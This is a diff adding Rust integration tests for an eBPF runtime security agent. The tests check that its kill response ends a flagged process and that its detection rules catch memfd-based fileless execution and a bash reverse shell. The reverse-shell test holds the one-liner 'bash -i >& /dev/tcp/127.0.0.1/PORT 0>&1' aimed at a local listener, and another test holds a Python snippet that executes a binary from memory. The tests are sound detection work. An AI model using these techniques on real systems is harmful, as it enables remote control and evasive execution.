@@ -1,0 +1,225 @@
+//! The agent with the eBPF source as root: a rule flags a program by name and the kill response
+//! ends it. Skips when eBPF is unavailable, except under `CI=true`, where it must run.
+#![cfg(all(target_os = "linux", feature = "ebpf"))]
+
+use rampart_runtime::agent::outputs::Collect;
+use rampart_runtime::agent::{Agent, AgentOptions, Responses};
+use rampart_runtime::sources::ebpf::preflight;
+use std::os::unix::process::ExitStatusExt;
+use std::time::{Duration, Instant};
+
+const RULES: &str = r#"
+- rule: Victim started
+  desc: a program the test starts
+  condition: evt.type = execve and proc.name = "rampart-victim"
+  output: victim started (pid=%proc.pid command=%proc.cmdline)
+  priority: CRITICAL
+  tags: [test]
+"#;
+
+#[test]
+fn kill_response_ends_a_process_a_rule_flags() {
+    if let Err(e) = preflight() {
+        assert!(!rampart_testkit::in_ci(), "eBPF must run in CI: {e}");
+        eprintln!("skipping: {e}");
+        return;
+    }
+    let mut loader = rampart_runtime::Loader::new();
+    loader.add_str("victim.yaml", RULES);
+    let engine = rampart_runtime::Engine::new(loader.finish().expect("rules"));
+    let collect = Collect::default();
+    let responses = Responses::parse(
+        "responses:\n  - rules: [Victim started]\n    action: kill\n    dry_run: false\n",
+        "r.yaml",
+    )
+    .unwrap();
+    let running = Agent::new(engine, AgentOptions::default())
+        .output(Box::new(collect.clone()))
+        .responses(responses)
+        .start()
+        .expect("agent starts with the eBPF source");
+    let dir = tempfile::tempdir().unwrap();
+    let victim = dir.path().join("rampart-victim");
+    std::fs::copy("/bin/sleep", &victim).unwrap();
+    let mut child = std::process::Command::new(&victim)
+        .arg("60")
+        .spawn()
+        .unwrap();
+    let pid = i64::from(child.id());
+    let deadline = Instant::now() + Duration::from_secs(15);
+    let status = loop {
+        if let Some(s) = child.try_wait().unwrap() {
+            break Some(s);
+        }
+        if Instant::now() > deadline {
+            let _ = child.kill();
+            break None;
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    };
+    running.stop();
+    let summary = running.wait();
+    assert_eq!(
+        status.and_then(|s| s.signal()),
+        Some(9),
+        "killed by the response; {summary:?}"
+    );
+    let alerts = collect.alerts();
+    let fired = alerts
+        .iter()
+        .find(|a| a.rule == "Victim started")
+        .expect("rule fired");
+    assert_eq!(fired.output_fields["proc.pid"], pid);
+    let resp = alerts
+        .iter()
+        .find(|a| a.rule == "Rampart response")
+        .expect("response reported");
+    assert_eq!(resp.output_fields["response.result"], "ok");
+    assert_eq!(resp.output_fields["proc.pid"], pid);
+    assert!(summary.events[0] > 0);
+}
+
+/// Fileless execution (falcosecurity event-generator's `syscall.ExecutionFromMemfd`-style
+/// behaviour): a program copied into a memfd and executed through `/proc/self/fd/N` fires the
+/// stable rule "Fileless execution via memfd_create" through the agent.
+#[test]
+fn memfd_execution_fires_the_fileless_rule() {
+    if let Err(e) = preflight() {
+        assert!(!rampart_testkit::in_ci(), "eBPF must run in CI: {e}");
+        eprintln!("skipping: {e}");
+        return;
+    }
+    let rules = rampart_testkit::shared("testdata/falcosecurity-rules/rules/falco_rules.yaml")
+        .expect("falcosecurity rules");
+    let (ruleset, _) = rampart_runtime::rules::load(&[rules]).expect("rules load");
+    let collect = Collect::default();
+    let running = Agent::new(
+        rampart_runtime::Engine::new(ruleset),
+        AgentOptions::default(),
+    )
+    .output(Box::new(collect.clone()))
+    .start()
+    .expect("agent starts");
+    let script = "import os\nfd = os.memfd_create('rampart-memfd', 0)\n\
+                  os.write(fd, open('/bin/sleep', 'rb').read())\n\
+                  os.execv('/proc/self/fd/%d' % fd, ['rampart-memfd', '1'])\n";
+    let status = std::process::Command::new("python3")
+        .args(["-c", script])
+        .status()
+        .expect("python3 runs");
+    assert!(status.success());
+    let deadline = Instant::now() + Duration::from_secs(5);
+    let found = loop {
+        let hit = collect
+            .alerts()
+            .into_iter()
+            .find(|a| a.rule == "Fileless execution via memfd_create");
+        if hit.is_some() || Instant::now() > deadline {
+            break hit;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    running.stop();
+    running.wait();
+    let a = found.expect("Fileless execution via memfd_create fired");
+    let exepath = a.output_fields["proc.exepath"].as_str().unwrap_or("");
+    assert_eq!(exepath, "memfd:rampart-memfd", "{a:?}");
+}
+
+/// A reverse shell in a podman container (event-generator's `syscall.RedirectStdoutStdinToNetwork`
+/// behaviour): `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1` connects to a listener of the test and
+/// dup2s the socket onto 0, 1 and 2 → "Redirect STDOUT/STDIN to Network Connection in Container",
+/// with the socket's address and port from the descriptor table.
+#[test]
+fn reverse_shell_in_container_fires_the_redirect_rule() {
+    if let Err(e) = preflight() {
+        assert!(!rampart_testkit::in_ci(), "eBPF must run in CI: {e}");
+        eprintln!("skipping: {e}");
+        return;
+    }
+    let podman_ok = std::process::Command::new("podman")
+        .arg("--version")
+        .output()
+        .is_ok_and(|o| o.status.success());
+    if !podman_ok {
+        assert!(!rampart_testkit::in_ci(), "podman must be installed in CI");
+        eprintln!("skipping: no podman");
+        return;
+    }
+    let rules = rampart_testkit::shared("testdata/falcosecurity-rules/rules/falco_rules.yaml")
+        .expect("falcosecurity rules");
+    let (ruleset, _) = rampart_runtime::rules::load(&[rules]).expect("rules load");
+    let collect = Collect::default();
+    let running = Agent::new(
+        rampart_runtime::Engine::new(ruleset),
+        AgentOptions::default(),
+    )
+    .output(Box::new(collect.clone()))
+    .start()
+    .expect("agent starts");
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    // the "attacker": accept the shell and tell it to exit
+    let attacker = std::thread::spawn(move || {
+        use std::io::Write;
+        if let Ok((mut s, _)) = listener.accept() {
+            // keep the shell alive a while: the agent reads /proc for new processes
+            std::thread::sleep(Duration::from_secs(2));
+            let _ = s.write_all(b"exit\n");
+            std::thread::sleep(Duration::from_millis(500));
+        }
+    });
+    let mut cmd = std::process::Command::new("timeout");
+    cmd.args([
+        "60",
+        "podman",
+        "run",
+        "--rm",
+        "--network",
+        "host",
+        "localhost/rampart/app:1.0",
+    ])
+    .args([
+        "bash",
+        "-c",
+        &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
+    ]);
+    if let Some(conf) = rampart_testkit::shared("peers/containers.conf") {
+        cmd.env("CONTAINERS_CONF", conf);
+    }
+    let out = cmd.output().expect("podman runs");
+    let _ = attacker.join();
+    let deadline = Instant::now() + Duration::from_secs(5);
+    let rule = "Redirect STDOUT/STDIN to Network Connection in Container";
+    let found = loop {
+        let hits: Vec<_> = collect
+            .alerts()
+            .into_iter()
+            .filter(|a| a.rule == rule)
+            .collect();
+        if !hits.is_empty() || Instant::now() > deadline {
+            break hits;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    running.stop();
+    running.wait();
+    assert!(
+        !found.is_empty(),
+        "{rule} fired; podman: {} {}",
+        out.status,
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let a = &found[0];
+    let f = |k: &str| {
+        a.output_fields
+            .get(k)
+            .map(|v| v.to_string())
+            .unwrap_or_default()
+    };
+    assert_eq!(f("fd.type"), "\"ipv4\"", "{a:?}");
+    assert_eq!(f("fd.sip"), "\"127.0.0.1\"", "{a:?}");
+    assert_eq!(f("fd.rport"), port.to_string(), "{a:?}");
+    assert_eq!(f("process"), "", "output fields are keyed by field name");
+    assert_eq!(a.output_fields["proc.name"], "bash");
+}
